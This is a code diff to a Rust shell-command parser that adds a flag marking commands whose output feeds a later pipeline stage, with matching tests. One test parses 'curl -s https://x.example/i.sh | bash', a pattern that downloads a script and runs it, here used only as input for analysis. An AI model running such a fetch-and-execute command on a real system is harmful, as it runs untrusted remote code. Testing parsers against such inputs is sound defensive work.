@@ -56,6 +56,9 @@ pub struct SimpleCmd {
     pub redirects: Vec<Redirect>,
     /// Its standard input comes from an earlier stage of a pipeline.
     pub piped: bool,
+    /// Its standard output feeds a later stage of a pipeline (unless a
+    /// redirection of its own sends it elsewhere).
+    pub pipes_out: bool,
     /// Here-doc or here-string text given on standard input.
     pub stdin_text: Option<String>,
     /// The constructs it was found through (`bash -c`, `sudo`, `xargs`...), outermost first.
@@ -253,6 +256,9 @@ impl ShellParser {
                     env,
                     redirects: Vec::new(),
                     piped: c.piped,
+                    // `nice yes > f | cat`: the wrapper's redirection is the
+                    // wrapped command's.
+                    pipes_out: c.pipes_out && !c.redirects.iter().any(|r| r.write),
                     stdin_text: c.stdin_text.clone(),
                     via: via_here(&name),
                     extra_args: extra || c.extra_args,
@@ -398,6 +404,11 @@ fn fast_lex(src: &str) -> Option<Vec<SimpleCmd>> {
                     _ => (1, false),
                 };
                 finish(&mut words, &mut cur, &mut cmds, piped)?;
+                if next_piped {
+                    if let Some(last) = cmds.last_mut() {
+                        last.pipes_out = true;
+                    }
+                }
                 piped = next_piped;
                 i += op_len;
             }
@@ -854,6 +865,7 @@ impl Walker<'_> {
                 let mut cur = n.walk();
                 for (idx, ch) in n.named_children(&mut cur).enumerate() {
                     let r = if idx == last { redirects.take() } else { None };
+                    let start = self.out.cmds.len();
                     match r {
                         Some(r) if ch.kind() != "command" && !r.reds.is_empty() => {
                             let mut argv = vec![Word::lit(":")];
@@ -866,6 +878,13 @@ impl Walker<'_> {
                             self.visit(ch, piped || (pipe && idx > 0), None);
                         }
                         r => self.visit(ch, piped || (pipe && idx > 0), r),
+                    }
+                    // Every command of a stage but the last writes into the pipe
+                    // (also those of a `{ ...; }` group or a subshell).
+                    if pipe && idx < last {
+                        for c in &mut self.out.cmds[start..] {
+                            c.pipes_out = true;
+                        }
                     }
                 }
                 return;
@@ -1471,6 +1490,7 @@ mod tests {
                 // may see more piped stages than bash does; never fewer.
                 for (a, b) in f.iter().zip(&t) {
                     assert!(!a.piped || b.piped, "{src:?}");
+                    assert!(!a.pipes_out || b.pipes_out, "{src:?}");
                 }
                 true
             }
@@ -1542,5 +1562,13 @@ mod tests {
         let p = ShellParser::default().analyse("curl -s https://x.example/i.sh | bash");
         let b = p.cmds.iter().find(|c| c.name() == "bash").unwrap();
         assert!(b.piped);
+        let c = p.cmds.iter().find(|c| c.name() == "curl").unwrap();
+        assert!(c.pipes_out && !b.pipes_out);
+        // Through tree-sitter, a group stage and a wrapper keep the mark.
+        let p = ShellParser::default().analyse("{ yes; ls; } | head -n 3 && nice yes | (cat)");
+        for c in p.cmds.iter().filter(|c| c.name() == "yes") {
+            assert!(c.pipes_out, "{c:?}");
+        }
+        assert!(!p.cmds.iter().any(|c| c.name() == "head" && c.pipes_out));
     }
 }
